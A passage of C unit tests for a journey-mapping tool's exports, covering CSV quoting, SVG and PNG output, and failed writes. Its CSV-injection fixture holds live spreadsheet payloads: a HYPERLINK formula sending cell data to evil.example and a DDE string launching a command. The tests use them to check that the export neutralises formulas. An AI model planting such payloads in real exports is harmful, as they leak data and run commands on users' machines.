/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Unit tests of the exports that need no PDF: CSV of friction points and
 * actions read back through an RFC 4180 parser, SVG read back as XML, PNG at
 * a scale, and failures that leave no file behind. No display. */
#include "config.h"

#include <math.h>
#include <string.h>
#include <glib/gstdio.h>

#include "staple-model.h"
#include "staple-export.h"
#include "staple-map-layout.h"
#include "test-util.h"

#define BOM "\xEF\xBB\xBF"

/* A strict RFC 4180 reader: records end with CRLF; a field is either bare
 * (no comma, quote, CR or LF) or quoted with its quotes doubled. Anything
 * else fails the test, so that sloppy output cannot pass by luck. */
static GPtrArray *
parse_csv (const char *data,
           gsize       length)
{
  GPtrArray *records = g_ptr_array_new_with_free_func ((GDestroyNotify) g_strfreev);
  g_autoptr(GPtrArray) fields = g_ptr_array_new_with_free_func (g_free);
  const char *p = data;
  const char *end = data + length;

  g_assert_true (length >= 3 && memcmp (p, BOM, 3) == 0);
  p += 3;

  while (p < end)
    {
      GString *field = g_string_new (NULL);

      if (*p == '"')
        {
          for (p++; ; p++)
            {
              g_assert_true (p < end); /* an unterminated quoted field */
              if (*p == '"' && p + 1 < end && p[1] == '"')
                {
                  g_string_append_c (field, '"');
                  p++;
                }
              else if (*p == '"')
                {
                  p++;
                  break;
                }
              else
                g_string_append_c (field, *p);
            }
        }
      else
        {
          for (; p < end && *p != ',' && *p != '\r'; p++)
            {
              g_assert_cmpint (*p, !=, '"');
              g_assert_cmpint (*p, !=, '\n');
              g_string_append_c (field, *p);
            }
        }

      g_ptr_array_add (fields, g_string_free (field, FALSE));
      g_assert_true (p < end); /* the last record ends with CRLF too */

      if (*p == ',')
        {
          p++;
          continue;
        }

      g_assert_true (p + 1 < end && p[0] == '\r' && p[1] == '\n');
      p += 2;
      g_ptr_array_add (fields, NULL);
      g_ptr_array_add (records, g_ptr_array_steal (fields, NULL));
    }

  return records;
}

static GPtrArray *
read_csv (const char *path)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *data = NULL;
  gsize length;

  g_file_get_contents (path, &data, &length, &error);
  g_assert_no_error (error);
  g_assert_true (g_utf8_validate (data, (gssize) length, NULL));
  return parse_csv (data, length);
}

/* What a cell holding @value reads: a single quote in front of what a
 * spreadsheet would take for a formula. */
static char *
as_cell (const char *value)
{
  if (value == NULL)
    return g_strdup ("");

  if (value[0] != '\0' && strchr ("=+-@\t\r", value[0]) != NULL)
    return g_strconcat ("'", value, NULL);

  return g_strdup (value);
}

static void
assert_record (char              **record,
               const char * const *expected,
               guint               n_expected)
{
  g_assert_cmpuint (g_strv_length (record), ==, n_expected);
  for (guint i = 0; i < n_expected; i++)
    {
      g_autofree char *cell = as_cell (expected[i]);

      g_assert_cmpstr (record[i], ==, cell);
    }
}

/* Commas, quotes, every kind of line break, emoji (outside the BMP, and a
 * ZWJ sequence), Arabic and Hebrew, leading and trailing blanks, a field
 * that is only a quote, and the separator of the "addresses" column. */
static const char awkward_json[] =
  "{ \"title\": \"Quotes, \\\"commas\\\" and 🧾\","
  "  \"date\": \"2026-03-04\","
  "  \"participants\": ["
  "    { \"key\": \"p1\", \"name\": \"O'Brien, \\\"Dee\\\"\", \"role\": \"CEO\" },"
  "    { \"key\": \"p2\", \"name\": \"مريم الحداد\", \"role\": \"\" } ],"
  "  \"stages\": ["
  "    { \"name\": \"Order, \\\"rush\\\"\", \"team\": \"Sales\\nand billing\","
  "      \"frictions\": ["
  "        { \"key\": \"f1\", \"text\": \"Line one\\r\\nline two\\rthree\\nfour\","
  "          \"kind\": \"trust\", \"severity\": 5, \"principle\": \"trust-judgement\","
  "          \"notes\": \"\\\"\" },"
  "        { \"key\": \"f2\", \"text\": \"  blanks kept  \", \"kind\": \"tools\","
  "          \"notes\": \"a; b; c\" } ] },"
  "    { \"name\": \"שלום עולם 👩‍👩‍👧 done\", \"team\": \"\","
  "      \"frictions\": ["
  "        { \"key\": \"f3\", \"text\": \"🙂, 😞 and \\\"🚚\\\"\", \"kind\": \"silo\","
  "          \"severity\": 1, \"principle\": \"cooperate-across-silos\","
  "          \"notes\": \"ملاحظة, مع \\\"اقتباس\\\"\\nسطر\" } ] } ],"
  "  \"votes\": [ { \"participant\": \"p1\", \"friction\": \"f3\" },"
  "             { \"participant\": \"p2\", \"friction\": \"f3\" },"
  "             { \"participant\": \"p2\", \"friction\": \"f1\" } ],"
  "  \"actions\": ["
  "    { \"text\": \"Fix it, \\\"now\\\"\\r\\nplease\", \"owner\": \"p1\", \"due\": \"2026-04-01\","
  "      \"status\": \"in-progress\", \"frictions\": [ \"f1\", \"f3\" ] },"
  "    { \"text\": \"Nobody's\", \"status\": \"done\" } ] }";

static StapleSession *
read_json (const char *json)
{
  g_autoptr(GError) error = NULL;
  StapleSession *session = staple_session_new_from_json (json, -1, &error);

  g_assert_no_error (error);
  return session;
}

static StapleSession *
read_awkward (void)
{
  return read_json (awkward_json);
}

/* CSV injection: every typed column of both files starts with one of the
 * characters a spreadsheet takes for the start of a formula, or a tab or a
 * carriage return that it may trim to one. Beside them, cells with the same
 * characters further in, which must come back as they are. */
static const char formula_json[] =
  "{ \"title\": \"=1+1\", \"date\": \"2026-03-04\","
  "  \"participants\": ["
  "    { \"key\": \"p1\", \"name\": \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Open\\\")\" },"
  "    { \"key\": \"p2\", \"name\": \"Ann-Marie O'Neil\" } ],"
  "  \"stages\": ["
  "    { \"name\": \"+SUM(A1:A9)\", \"team\": \"-2+3\","
  "      \"frictions\": ["
  "        { \"key\": \"f1\", \"text\": \"=cmd|' /C calc'!A0\", \"kind\": \"policy\","
  "          \"notes\": \"@SUM(1+9)*cmd|' /C calc'!A0\" },"
  "        { \"key\": \"f2\", \"text\": \"\\tTab first\", \"notes\": \"\\r=CR first\" },"
  "        { \"key\": \"f3\", \"text\": \"a = b, c - d\", \"notes\": \"e-mail @ noon\" } ] },"
  "    { \"name\": \"Ordinary\", \"team\": \"\u2212 5 is a minus sign, not a hyphen\","
  "      \"frictions\": [ { \"key\": \"f4\", \"text\": \"'quoted already\" } ] } ],"
  "  \"actions\": ["
  "    { \"text\": \"-1\", \"owner\": \"p1\", \"frictions\": [ \"f1\", \"f3\" ] },"
  "    { \"text\": \"@import\", \"owner\": \"p2\", \"frictions\": [ \"f3\", \"f1\" ] } ] }";

/* The CSV columns, worked out here from the model, independently. */
static void
check_frictions_csv (StapleSession *session,
                     const char    *path)
{
  static const char * const header[] = {
    "Stage number", "Stage", "Team", "Friction point", "Kind", "Severity", "Principle",
    "Votes", "Notes",
  };
  GListModel *stages = G_LIST_MODEL (staple_session_get_stages (session));
  g_autoptr(GPtrArray) records = read_csv (path);
  guint row = 1;

  g_assert_cmpuint (records->len, ==, staple_session_count_frictions (session) + 1);
  assert_record (records->pdata[0], header, G_N_ELEMENTS (header));

  for (guint i = 0; i < g_list_model_get_n_items (stages); i++)
    {
      g_autoptr(StapleStage) stage = g_list_model_get_item (stages, i);
      GListModel *frictions = G_LIST_MODEL (staple_stage_get_frictions (stage));

      for (guint j = 0; j < g_list_model_get_n_items (frictions); j++, row++)
        {
          g_autoptr(StapleFriction) friction = g_list_model_get_item (frictions, j);
          StaplePrinciple principle = staple_friction_get_principle (friction);
          g_autofree char *number = g_strdup_printf ("%u", i + 1);
          g_autofree char *severity = g_strdup_printf ("%d",
                                                       staple_friction_get_severity (friction));
          g_autofree char *votes = g_strdup_printf ("%u", staple_session_count_votes_for (
                                                      session, staple_friction_get_id (friction)));
          const char *expected[] = {
            number, staple_stage_get_name (stage), staple_stage_get_team (stage),
            staple_friction_get_text (friction),
            staple_friction_kind_get_label (staple_friction_get_kind (friction)), severity,
            principle == STAPLE_PRINCIPLE_NONE ? "" : staple_principle_get_label (principle),
            votes, staple_friction_get_notes (friction),
          };

          assert_record (records->pdata[row], expected, G_N_ELEMENTS (expected));
        }
    }
}

static void
check_actions_csv (StapleSession *session,
                   const char    *path)
{
  static const char * const header[] = { "Action", "Owner", "Due", "Status", "Addresses" };
  GListModel *actions = G_LIST_MODEL (staple_session_get_actions (session));
  g_autoptr(GPtrArray) records = read_csv (path);

  g_assert_cmpuint (records->len, ==, g_list_model_get_n_items (actions) + 1);
  assert_record (records->pdata[0], header, G_N_ELEMENTS (header));

  for (guint i = 0; i < g_list_model_get_n_items (actions); i++)
    {
      g_autoptr(StapleAction) action = g_list_model_get_item (actions, i);
      StapleParticipant *owner =
        staple_session_find_participant (session, staple_action_get_owner_id (action), NULL);
      g_autoptr(GString) addresses = g_string_new (NULL);
      const gint64 *ids;
      guint n_ids;

      ids = staple_action_get_friction_ids (action, &n_ids);
      for (guint j = 0; j < n_ids; j++)
        {
          StapleFriction *friction = staple_session_find_friction (session, ids[j], NULL, NULL);

          g_assert_nonnull (friction);
          g_string_append_printf (addresses, "%s%s", j > 0 ? "; " : "",
                                  staple_friction_get_text (friction));
        }

      {
        const char *expected[] = {
          staple_action_get_text (action),
          owner != NULL ? staple_participant_get_name (owner) : "",
          staple_action_get_due (action),
          staple_action_status_get_label (staple_action_get_status (action)),
          addresses->str,
        };

        assert_record (records->pdata[i + 1], expected, G_N_ELEMENTS (expected));
      }
    }
}

static void
export_and_check_csv (StapleSession *session)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("staple-csv-XXXXXX", &error);
  g_autofree char *frictions = g_build_filename (dir, "map.csv", NULL);
  g_autofree char *actions = staple_export_actions_csv_path (frictions);

  g_assert_no_error (error);
  g_assert_true (g_str_has_suffix (actions, "map-actions.csv"));

  g_assert_true (staple_export_frictions_csv (session, frictions, &error));
  g_assert_no_error (error);
  g_assert_true (staple_export_actions_csv (session, actions, &error));
  g_assert_no_error (error);

  check_frictions_csv (session, frictions);
  check_actions_csv (session, actions);

  g_unlink (frictions);
  g_unlink (actions);
  g_assert_cmpint (g_rmdir (dir), ==, 0); /* nothing else was left there */
}

static void
test_csv_example (void)
{
  g_autoptr(StapleSession) session = test_read_example ();

  g_assert_cmpuint (staple_session_count_frictions (session), >=, 20);
  g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (staple_session_get_actions (session))),
                    >=, 2);
  export_and_check_csv (session);
}

static void
test_csv_awkward (void)
{
  g_autoptr(StapleSession) session = read_awkward ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("staple-csv-XXXXXX", &error);
  g_autofree char *path = g_build_filename (dir, "awkward.csv", NULL);
  g_autofree char *actions_path = staple_export_actions_csv_path (path);
  g_autoptr(GPtrArray) frictions = NULL;
  g_autoptr(GPtrArray) actions = NULL;
  char **row;

  export_and_check_csv (session);

  /* And spelled out, in case the model and the export agree on a mistake. */
  g_assert_no_error (error);
  g_assert_true (staple_export_frictions_csv (session, path, &error));
  g_assert_true (staple_export_actions_csv (session, actions_path, &error));
  frictions = read_csv (path);
  actions = read_csv (actions_path);

  row = frictions->pdata[1];
  g_assert_cmpstr (row[1], ==, "Order, \"rush\"");
  g_assert_cmpstr (row[2], ==, "Sales\nand billing");
  g_assert_cmpstr (row[3], ==, "Line one\r\nline two\rthree\nfour");
  g_assert_cmpstr (row[7], ==, "1");
  g_assert_cmpstr (row[8], ==, "\"");
  row = frictions->pdata[2];
  g_assert_cmpstr (row[3], ==, "  blanks kept  ");
  g_assert_cmpstr (row[6], ==, "");
  row = frictions->pdata[3];
  g_assert_cmpstr (row[0], ==, "2");
  g_assert_cmpstr (row[1], ==, "שלום עולם 👩‍👩‍👧 done");
  g_assert_cmpstr (row[3], ==, "🙂, 😞 and \"🚚\"");
  g_assert_cmpstr (row[7], ==, "2");
  g_assert_cmpstr (row[8], ==, "ملاحظة, مع \"اقتباس\"\nسطر");

  row = actions->pdata[1];
  g_assert_cmpstr (row[0], ==, "Fix it, \"now\"\r\nplease");
  g_assert_cmpstr (row[1], ==, "O'Brien, \"Dee\"");
  g_assert_cmpstr (row[2], ==, "2026-04-01");
  g_assert_cmpstr (row[4], ==, "Line one\r\nline two\rthree\nfour; 🙂, 😞 and \"🚚\"");
  row = actions->pdata[2];
  g_assert_cmpstr (row[1], ==, "");
  g_assert_cmpstr (row[4], ==, "");

  g_unlink (path);
  g_unlink (actions_path);
  g_rmdir (dir);
}

static void
test_csv_formulas (void)
{
  g_autoptr(StapleSession) session = read_json (formula_json);
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("staple-csv-XXXXXX", &error);
  g_autofree char *path = g_build_filename (dir, "formulas.csv", NULL);
  g_autofree char *actions_path = staple_export_actions_csv_path (path);
  g_autoptr(GPtrArray) frictions = NULL;
  g_autoptr(GPtrArray) actions = NULL;
  char **row;

  export_and_check_csv (session);

  g_assert_no_error (error);
  g_assert_true (staple_export_frictions_csv (session, path, &error));
  g_assert_true (staple_export_actions_csv (session, actions_path, &error));
  frictions = read_csv (path);
  actions = read_csv (actions_path);

  row = frictions->pdata[1];
  g_assert_cmpstr (row[1], ==, "'+SUM(A1:A9)");
  g_assert_cmpstr (row[2], ==, "'-2+3");
  g_assert_cmpstr (row[3], ==, "'=cmd|' /C calc'!A0");
  g_assert_cmpstr (row[8], ==, "'@SUM(1+9)*cmd|' /C calc'!A0");
  row = frictions->pdata[2];
  g_assert_cmpstr (row[3], ==, "'\tTab first");
  g_assert_cmpstr (row[8], ==, "'\r=CR first");
  row = frictions->pdata[3];
  g_assert_cmpstr (row[3], ==, "a = b, c - d");
  g_assert_cmpstr (row[8], ==, "e-mail @ noon");
  row = frictions->pdata[4];
  g_assert_cmpstr (row[2], ==, "\u2212 5 is a minus sign, not a hyphen");
  g_assert_cmpstr (row[3], ==, "'quoted already");

  row = actions->pdata[1];
  g_assert_cmpstr (row[0], ==, "'-1");
  g_assert_cmpstr (row[1], ==, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")");
  g_assert_cmpstr (row[4], ==, "'=cmd|' /C calc'!A0; a = b, c - d");
  row = actions->pdata[2];
  g_assert_cmpstr (row[0], ==, "'@import");
  g_assert_cmpstr (row[1], ==, "Ann-Marie O'Neil");
  g_assert_cmpstr (row[4], ==, "a = b, c - d; =cmd|' /C calc'!A0");

  /* No cell of either file starts like a formula. */
  for (guint file = 0; file < 2; file++)
    {
      GPtrArray *records = file == 0 ? frictions : actions;

      for (guint i = 0; i < records->len; i++)
        for (char **cell = records->pdata[i]; *cell != NULL; cell++)
          g_assert_null (strchr ("=+-@\t\r", (*cell)[0] != '\0' ? (*cell)[0] : 'x'));
    }

  g_unlink (path);
  g_unlink (actions_path);
  g_rmdir (dir);
}

static void
test_csv_actions_path (void)
{
  static const struct { const char *in, *out; } cases[] = {
    { "map.csv", "map-actions.csv" },
    { "/tmp/a.b/map.csv", "/tmp/a.b/map-actions.csv" },
    { "/tmp/a.b/map", "/tmp/a.b/map-actions" },
    { "out/.csv", "out/.csv-actions" },
    { "x.tar.csv", "x.tar-actions.csv" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *path = staple_export_actions_csv_path (cases[i].in);

      g_assert_cmpstr (path, ==, cases[i].out);
    }
}

/* The stages' times: a row per stage and nothing else; a typed cell that
 * starts like a formula gets its quote, in the team handed over into too,
 * while the figures the file computes (a feeling of -2) stay numbers. */
static void
test_csv_stages (void)
{
  static const struct { const char *in, *out; } cases[] = {
    { "map.csv", "map-stages.csv" },
    { "/tmp/a.b/map", "/tmp/a.b/map-stages" },
    { "out/.csv", "out/.csv-stages" },
  };
  g_autoptr(StapleSession) session = read_json (formula_json);
  GListModel *stages = G_LIST_MODEL (staple_session_get_stages (session));
  g_autoptr(StapleStage) first = g_list_model_get_item (stages, 0);
  g_autoptr(StapleStage) second = g_list_model_get_item (stages, 1);
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("staple-csv-XXXXXX", &error);
  g_autofree char *path = g_build_filename (dir, "times.csv", NULL);
  g_autoptr(GPtrArray) records = NULL;
  char **row;

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *stages_path = staple_export_stages_csv_path (cases[i].in);

      g_assert_cmpstr (stages_path, ==, cases[i].out);
    }

  staple_stage_set_customer_feeling (first, -2);
  staple_stage_set_staff_feeling (first, 1);
  staple_stage_set_wait_minutes (first, 90);
  staple_stage_set_work_minutes (second, 75);
  staple_stage_set_team (second, "@team");
  staple_stage_set_dropped (second, TRUE);

  g_assert_no_error (error);
  g_assert_true (staple_export_stages_csv (session, path, &error));
  g_assert_no_error (error);
  records = read_csv (path);
  g_assert_cmpuint (records->len, ==, 1 + 2);

  row = records->pdata[0];
  g_assert_cmpstr (row[0], ==, "Stage number");
  g_assert_cmpstr (row[12], ==, "Staff feeling");
  g_assert_null (row[13]);

  row = records->pdata[1];
  g_assert_cmpstr (row[0], ==, "1");
  g_assert_cmpstr (row[1], ==, "'+SUM(A1:A9)");
  g_assert_cmpstr (row[2], ==, "'-2+3");
  g_assert_cmpstr (row[3], ==, "0");
  g_assert_cmpstr (row[5], ==, "90");
  g_assert_cmpstr (row[6], ==, "1 h 30 min");
  g_assert_cmpstr (row[7], ==, "Yes");
  g_assert_cmpstr (row[8], ==, "No");
  g_assert_cmpstr (row[9], ==, "");
  g_assert_cmpstr (row[11], ==, "-2");
  g_assert_cmpstr (row[12], ==, "1");

  row = records->pdata[2];
  g_assert_cmpstr (row[2], ==, "'@team");
  g_assert_cmpstr (row[3], ==, "75");
  g_assert_cmpstr (row[4], ==, "1 h 15 min");
  g_assert_cmpstr (row[5], ==, "0");
  g_assert_cmpstr (row[6], ==, "");
  g_assert_cmpstr (row[7], ==, "");
  g_assert_cmpstr (row[8], ==, "Yes");
  g_assert_cmpstr (row[9], ==, "'@team");
  g_assert_cmpstr (row[10], ==, "Yes");

  g_unlink (path);
  g_rmdir (dir);
}

typedef struct
{
  GString *text;
  double   width;
  double   height;
  double   view_width;
  double   view_height;
  GArray  *images;   /* the height of each <image>, in its own pixels */
} SvgReader;

static void
svg_start_cb (GMarkupParseContext  *context,
              const char           *element,
              const char          **names,
              const char          **values,
              gpointer              user_data,
              GError              **error)
{
  SvgReader *reader = user_data;

  if (g_strcmp0 (element, "image") == 0)
    {
      for (guint i = 0; names[i] != NULL; i++)
        if (strcmp (names[i], "height") == 0)
          {
            double height = g_ascii_strtod (values[i], NULL);

            g_array_append_val (reader->images, height);
          }
      return;
    }

  if (g_strcmp0 (element, "svg") != 0)
    return;

  for (guint i = 0; names[i] != NULL; i++)
    {
      if (strcmp (names[i], "width") == 0)
        reader->width = g_ascii_strtod (values[i], NULL);
      else if (strcmp (names[i], "height") == 0)
        reader->height = g_ascii_strtod (values[i], NULL);
      else if (strcmp (names[i], "viewBox") == 0)
        g_assert_cmpint (sscanf (values[i], "0 0 %lf %lf", &reader->view_width,
                                 &reader->view_height), ==, 2);
    }
}

static void
svg_text_cb (GMarkupParseContext  *context,
             const char           *text,
             gsize                 length,
             gpointer              user_data,
             GError              **error)
{
  SvgReader *reader = user_data;

  g_string_append_len (reader->text, text, (gssize) length);
}

/* @n_emoji: how many emoji the map draws; colour emoji are the only images
 * cairo may put into the drawing. */
static void
check_svg (StapleSession *session,
           guint          n_emoji)
{
  static const GMarkupParser parser = { svg_start_cb, NULL, svg_text_cb, NULL, NULL };
  g_autoptr(StapleMapLayout) layout = staple_map_layout_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("staple-svg-XXXXXX", &error);
  g_autofree char *path = g_build_filename (dir, "map.svg", NULL);
  g_autofree char *data = NULL;
  g_autoptr(GMarkupParseContext) context = NULL;
  GListModel *stages = G_LIST_MODEL (staple_session_get_stages (session));
  SvgReader reader = { g_string_new (NULL), 0, 0, 0, 0, NULL };
  gsize length;

  reader.images = g_array_new (FALSE, FALSE, sizeof (double));
  g_assert_true (staple_export_map_svg (session, path, &error));
  g_assert_no_error (error);
  g_file_get_contents (path, &data, &length, &error);
  g_assert_no_error (error);

  context = g_markup_parse_context_new (&parser, 0, &reader, NULL);
  g_assert_true (g_markup_parse_context_parse (context, data, (gssize) length, &error));
  g_assert_true (g_markup_parse_context_end_parse (context, &error));
  g_assert_no_error (error);

  staple_map_layout_set_session (layout, session);
  g_assert_cmpfloat (reader.width, ==, ceil (staple_map_layout_get_width (layout)));
  g_assert_cmpfloat (reader.height, ==, ceil (staple_map_layout_get_height (layout)));
  g_assert_nonnull (strstr (reader.text->str, staple_session_get_title (session)));

  for (guint i = 0; i < g_list_model_get_n_items (stages); i++)
    {
      g_autoptr(StapleStage) stage = g_list_model_get_item (stages, i);

      g_assert_nonnull (strstr (reader.text->str, staple_stage_get_name (stage)));
    }

  /* A vector drawing: cairo fell back to no bitmap for the cards. Colour
   * emoji are bitmaps (cairo 1.16 has no other way to put them in an SVG),
   * drawn at four times the size, so that they stay sharp when the drawing
   * is enlarged: a 13 px emoji is an image at least 48 pixels high. */
  g_assert_cmpuint (reader.images->len, <=, n_emoji);
  for (guint i = 0; i < reader.images->len; i++)
    g_assert_cmpfloat (g_array_index (reader.images, double, i), >=, 48);
  g_assert_cmpfloat (reader.view_width / reader.width, ==, reader.view_height / reader.height);

  g_array_unref (reader.images);
  g_string_free (reader.text, TRUE);
  g_unlink (path);
  g_assert_cmpint (g_rmdir (dir), ==, 0);
}

static void
test_svg_example (void)
{
  g_autoptr(StapleSession) session = test_read_example ();

  check_svg (session, 0);
}

static void
test_svg_awkward (void)
{
  g_autoptr(StapleSession) session = read_awkward ();

  /* 👩‍👩‍👧 in a stage's name, 🙂, 😞 and 🚚 on a card; the title's 🧾 is not
   * drawn. */
  check_svg (session, 4);
}

/* The session of tests/scripts-session.json: Japanese, Chinese, Korean,
 * Arabic, Hebrew, emoji and combining accents. */
static StapleSession *
read_scripts (void)
{
  g_autofree char *path = g_test_build_filename (G_TEST_DIST, "scripts-session.json", NULL);
  g_autofree char *contents = NULL;
  g_autoptr(GError) error = NULL;
  gsize length = 0;
  StapleSession *session;

  g_file_get_contents (path, &contents, &length, &error);
  g_assert_no_error (error);
  session = staple_session_new_from_json (contents, (gssize) length, &error);
  g_assert_no_error (error);
  return session;
}

/* Adds @layout's text to @missing if a character of it has no font. */
static void
check_every_glyph (PangoLayout *layout,
                   GString     *missing)
{
  int unknown;

  if (layout == NULL)
    return;

  unknown = pango_layout_get_unknown_glyphs_count (layout);
  if (unknown != 0)
    g_string_append_printf (missing, " “%s” (%d),", pango_layout_get_text (layout), unknown);
}

/* Every script on the map, and so in the PNG and the SVG: each text the map
 * lays out finds a font for every character. The PDF's text is read back by
 * tests/check-scripts.py. */
static void
test_map_scripts (void)
{
  g_autoptr(StapleSession) session = read_scripts ();
  g_autoptr(StapleMapLayout) layout = staple_map_layout_new ();
  g_autoptr(GString) missing = g_string_new (NULL);
  guint n_texts = 0;

  staple_map_layout_set_session (layout, session);
  g_assert_cmpuint (staple_map_layout_get_n_columns (layout), ==, 3);

  for (guint i = 0; i < staple_map_layout_get_n_columns (layout); i++)
    {
      const StapleMapColumn *column = staple_map_layout_get_column (layout, i);
      PangoLayout *texts[] = {
        column->title, column->subtitle, column->times, column->causes, column->handoff_label,
      };

      for (guint j = 0; j < G_N_ELEMENTS (texts); j++, n_texts++)
        check_every_glyph (texts[j], missing);

      for (guint j = 0; j < column->cards->len; j++, n_texts += 2)
        {
          const StapleMapCard *card = &g_array_index (column->cards, StapleMapCard, j);

          check_every_glyph (card->text, missing);
          check_every_glyph (card->label, missing);
        }
    }

  g_assert_cmpuint (n_texts, >=, 3 * 5 + 7 * 2);
  if (missing->len > 0)
    g_string_truncate (missing, missing->len - 1);
  if (missing->len > 0)
    g_test_fail_printf ("characters no font covers, drawn as hex boxes, in%s; install "
                        "fonts-noto-core, fonts-noto-cjk and fonts-noto-color-emoji",
                        missing->str);
}

static void
png_size (const char *path,
          guint      *width,
          guint      *height)
{
  g_autofree char *data = NULL;
  g_autoptr(GError) error = NULL;
  const guchar *p;
  gsize length;

  g_file_get_contents (path, &data, &length, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (length, >, 24);
  g_assert_true (memcmp (data, "\x89PNG\r\n\x1a\n", 8) == 0);
  p = (const guchar *) data;
  *width = (guint) p[16] << 24 | (guint) p[17] << 16 | (guint) p[18] << 8 | p[19];
  *height = (guint) p[20] << 24 | (guint) p[21] << 16 | (guint) p[22] << 8 | p[23];
}

static void
test_png_scale (void)
{
  g_autoptr(StapleSession) session = test_read_example ();
  g_autoptr(StapleMapLayout) layout = staple_map_layout_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("staple-png-XXXXXX", &error);
  g_autofree char *path = g_build_filename (dir, "map.png", NULL);
  static const double scales[] = { 0.25, 1.0, 2.0 };

  staple_map_layout_set_session (layout, session);

  for (guint i = 0; i < G_N_ELEMENTS (scales); i++)
    {
      guint width, height;

      g_assert_true (staple_export_map_png (session, path, scales[i], FALSE, &error));
      g_assert_no_error (error);
      png_size (path, &width, &height);
      g_assert_cmpuint (width, ==, (guint) ceil (staple_map_layout_get_width (layout) * scales[i]));
      g_assert_cmpuint (height, ==,
                        (guint) ceil (staple_map_layout_get_height (layout) * scales[i]));
    }

  g_unlink (path);
  g_assert_cmpint (g_rmdir (dir), ==, 0);
}

static guint
count_entries (const char *dir)
{
  g_autoptr(GDir) listing = g_dir_open (dir, 0, NULL);
  guint n = 0;

  g_assert_nonnull (listing);
  while (g_dir_read_name (listing) != NULL)
    n++;
  return n;
}

/* A missing folder fails before anything is written; a folder in the way of
 * the file fails at the rename, after the temporary file was written. Both
 * leave the folder as it was. */
static void
test_unwritable (void)
{
  g_autoptr(StapleSession) session = test_read_example ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("staple-bad-XXXXXX", &error);
  g_autofree char *missing = g_build_filename (dir, "no", "such", "map", NULL);
  g_autofree char *in_the_way = g_build_filename (dir, "folder", NULL);
  const char *targets[] = { missing, in_the_way };

  g_assert_cmpint (g_mkdir (in_the_way, 0755), ==, 0);

  for (guint i = 0; i < G_N_ELEMENTS (targets); i++)
    {
      g_assert_false (staple_export_frictions_csv (session, targets[i], &error));
      g_assert_nonnull (error);
      g_clear_error (&error);
      g_assert_false (staple_export_actions_csv (session, targets[i], &error));
      g_assert_nonnull (error);
      g_clear_error (&error);
      g_assert_false (staple_export_map_svg (session, targets[i], &error));
      g_assert_nonnull (error);
      g_clear_error (&error);
      g_assert_false (staple_export_map_png (session, targets[i], 1.0, FALSE, &error));
      g_assert_nonnull (error);
      g_clear_error (&error);
      g_assert_cmpuint (count_entries (dir), ==, 1);
    }

  g_assert_cmpuint (count_entries (in_the_way), ==, 0);
  g_rmdir (in_the_way);
  g_assert_cmpint (g_rmdir (dir), ==, 0);
}

/* A file that is there already is replaced whole. */
static void
test_replaces (void)
{
  g_autoptr(StapleSession) session = read_awkward ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("staple-replace-XXXXXX", &error);
  g_autofree char *path = g_build_filename (dir, "map.csv", NULL);
  g_autofree char *data = NULL;

  g_assert_true (g_file_set_contents (path, "old", -1, &error));
  g_assert_true (staple_export_frictions_csv (session, path, &error));
  g_assert_no_error (error);
  g_file_get_contents (path, &data, NULL, &error);
  g_assert_true (g_str_has_prefix (data, BOM "Stage number,"));
  g_assert_cmpuint (count_entries (dir), ==, 1);

  g_unlink (path);
  g_rmdir (dir);
}

/* The comparison of two walks: a PDF whose text says what was resolved and
 * what is new. The later walk drops the first card and adds one. */
static void
test_comparison_pdf (void)
{
  g_autoptr(StapleSession) earlier = test_read_example ();
  g_autoptr(StapleSession) later = test_read_example ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("staple-compare-XXXXXX", &error);
  g_autofree char *path = NULL;
  g_autofree char *text = NULL;
  g_autofree char *command = NULL;
  g_autoptr(StapleStage) stage = NULL;
  g_autoptr(StapleFriction) gone = NULL;
  g_autoptr(StapleFriction) fresh = staple_friction_new ();
  g_autofree char *pdftotext = g_find_program_in_path ("pdftotext");
  gint status = 0;

  g_assert_no_error (error);
  path = g_build_filename (dir, "compare.pdf", NULL);

  stage = g_list_model_get_item (G_LIST_MODEL (staple_session_get_stages (later)), 0);
  gone = g_list_model_get_item (G_LIST_MODEL (staple_stage_get_frictions (stage)), 0);
  g_list_store_remove (staple_stage_get_frictions (stage), 0);
  staple_friction_set_text (fresh, "Nobody answers the phone on bank holidays");
  g_list_store_append (staple_stage_get_frictions (stage), fresh);

  g_assert_true (staple_export_comparison_pdf (earlier, later, path, &error));
  g_assert_no_error (error);
  g_assert_true (g_file_test (path, G_FILE_TEST_IS_REGULAR));

  if (pdftotext == NULL)
    {
      g_test_message ("pdftotext is not installed; the text is not checked");
      g_unlink (path);
      g_rmdir (dir);
      return;
    }

  command = g_strdup_printf ("pdftotext -layout '%s' -", path);
  g_assert_true (g_spawn_command_line_sync (command, &text, NULL, &status, &error));
  g_assert_no_error (error);
  g_assert_nonnull (strstr (text, "Friction Points Not Met on This Walk"));
  g_assert_nonnull (strstr (text, "Nobody answers the phone on bank holidays"));
  g_assert_nonnull (strstr (text, "Weekend agent may log a fault"));
  g_unlink (path);
  g_rmdir (dir);
}

int
main (int   argc,
      char *argv[])
{
  /* The column names and labels are compared in English. */
  g_setenv ("LANGUAGE", "C", TRUE);
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  g_test_add_func ("/export/csv/example", test_csv_example);
  g_test_add_func ("/export/comparison/pdf", test_comparison_pdf);
  g_test_add_func ("/export/csv/awkward", test_csv_awkward);
  g_test_add_func ("/export/csv/formulas", test_csv_formulas);
  g_test_add_func ("/export/csv/actions-path", test_csv_actions_path);
